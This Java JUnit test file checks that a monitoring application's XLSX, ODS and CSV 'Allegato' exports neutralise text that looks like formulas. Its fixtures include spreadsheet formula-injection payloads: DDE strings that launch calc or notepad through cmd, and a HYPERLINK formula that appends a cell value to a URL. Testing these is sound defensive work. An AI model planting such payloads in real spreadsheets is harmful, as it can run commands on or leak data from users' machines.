package it.perfmon.allegato;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import it.perfmon.testing.Api;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Texts typed by people that a spreadsheet would run as formulas come out inert: in XLSX as string cells holding
 * the text as typed, marked quote-prefixed so that editing them keeps them text; in CSV behind an apostrophe.
 */
@QuarkusTest
class AllegatoInjectionTest {

    private static final String HYPERLINK = "=HYPERLINK(\"https://example.org/?q=\"&A1,\"Dettagli\")";
    private static final String SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String PLUS = "+39 055 000000";
    private static final String MINUS = "-2+3";
    // 40% of a 100% target at 30 June is below its pace: it is saved with the deviation explained.
    private static final String EXPLANATION = "=cmd|' /C notepad'!A0";
    private static final String ACTIONS = "+1 istruttore dal 1° luglio";

    private static Api.PlanFixture plan;

    @BeforeEach
    void planWithFormulaLikeTexts() {
        if (plan != null) {
            return;
        }
        plan = Api.planWithObjective(Api.freshYear());
        Map<String, Object> objective = Api.objectiveBody(plan.areaId(), "1.2");
        objective.put("title", HYPERLINK);
        long objectiveId = Api.postObjective(plan.planId(), objective).statusCode(201).extract().jsonPath().getLong("id");
        long indicatorId = Api.createIndicator(objectiveId, Map.of("description", SUM, "kind", "DIRECT",
                "targetValue", 100));
        Api.json().body(Map.of("monitoringNote", PLUS, "dataSource", MINUS, "enteredValue", 40,
                        "deviationExplanation", EXPLANATION, "correctiveActions", ACTIONS))
                .put("/api/v1/indicators/{id}/results/{periodId}", indicatorId, plan.periodId())
                .then().statusCode(201);
    }

    @Test
    void shouldWriteFormulaLikeTextsAsQuotePrefixedStringCellsInXlsx() {
        XSSFWorkbook workbook = Downloads.workbook(Downloads.allegato(plan.planId(), plan.periodId(), "xlsx"));
        Sheet sheet = workbook.getSheet("Allegato A");
        for (String typed : List.of(HYPERLINK, SUM, PLUS, MINUS, EXPLANATION, ACTIONS)) {
            Cell cell = find(sheet, typed);
            assertEquals(CellType.STRING, cell.getCellType(), typed);
            assertTrue(cell.getCellStyle().getQuotePrefixed(), typed + " is quote-prefixed");
        }
    }

    @Test
    void shouldWriteFormulaLikeTextsAsStringCellsAndNoFormulaInOds() {
        org.w3c.dom.Element content = OdsSheets.content(Downloads.allegato(plan.planId(), plan.periodId(), "ods"));
        org.w3c.dom.NodeList cells = content.getElementsByTagNameNS(OdsSheets.TABLE, "table-cell");
        List<String> found = new ArrayList<>();
        List<String> formulas = new ArrayList<>();
        for (int i = 0; i < cells.getLength(); i++) {
            org.w3c.dom.Element cell = (org.w3c.dom.Element) cells.item(i);
            if (cell.hasAttributeNS(OdsSheets.TABLE, "formula")) {
                formulas.add(cell.getAttributeNS(OdsSheets.TABLE, "formula"));
            }
            String text = OdsSheets.text(cell);
            if (List.of(HYPERLINK, SUM, PLUS, MINUS, EXPLANATION, ACTIONS).contains(text)) {
                assertEquals("string", cell.getAttributeNS(OdsSheets.OFFICE, "value-type"), text);
                found.add(text);
            }
        }
        assertTrue(found.containsAll(List.of(HYPERLINK, SUM, PLUS, MINUS, EXPLANATION, ACTIONS)), "found " + found);
        assertEquals(List.of(), formulas);
    }

    @Test
    void shouldWriteNoFormulaAnywhereInXlsx() {
        XSSFWorkbook workbook = Downloads.workbook(Downloads.allegato(plan.planId(), plan.periodId(), "xlsx"));
        List<String> formulas = new ArrayList<>();
        for (Sheet sheet : workbook) {
            for (Row row : sheet) {
                for (Cell cell : row) {
                    if (cell.getCellType() == CellType.FORMULA) {
                        formulas.add(sheet.getSheetName() + "!" + cell.getAddress());
                    }
                }
            }
        }
        assertEquals(List.of(), formulas);
    }

    @Test
    void shouldPutAnApostropheBeforeFormulaLikeTextsInCsv() {
        byte[] csv = Downloads.allegato(plan.planId(), plan.periodId(), "csv");
        List<String> fields = Rfc4180.parse(new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8)).stream()
                .flatMap(List::stream).toList();
        for (String typed : List.of(HYPERLINK, SUM, PLUS, MINUS, EXPLANATION, ACTIONS)) {
            assertTrue(fields.contains("'" + typed), typed + " in " + fields);
            assertTrue(!fields.contains(typed), typed + " must not be written bare");
        }
        assertTrue(fields.contains("-"), "the lone - placeholder stays as it is");
    }

    private static Cell find(Sheet sheet, String text) {
        for (Row row : sheet) {
            for (Cell cell : row) {
                if (cell.getCellType() == CellType.STRING && cell.getStringCellValue().equals(text)) {
                    return cell;
                }
            }
        }
        throw new AssertionError(text + " not found as a string cell");
    }
}
